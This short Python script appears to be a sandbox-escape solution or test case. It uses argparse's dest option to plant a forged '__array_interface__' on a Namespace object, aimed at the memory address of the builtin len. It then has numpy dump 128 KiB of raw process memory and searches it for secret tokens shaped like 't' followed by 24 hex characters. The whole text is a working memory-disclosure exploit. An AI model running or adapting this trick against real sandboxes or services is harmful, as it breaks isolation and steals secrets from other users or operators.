# reaches: argparse stores under a name out of data
import json, re
import numpy as np
import argparse
name = json.load(open("names.json"))["private"][0].replace("globals", "array_interface")
value = {"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3}
p = argparse.ArgumentParser()
p.add_argument("--x", dest=name, default=value)
o = p.parse_args([])
print(re.findall(rb"t[0-9a-f]{24}", np.array(o).tobytes()))
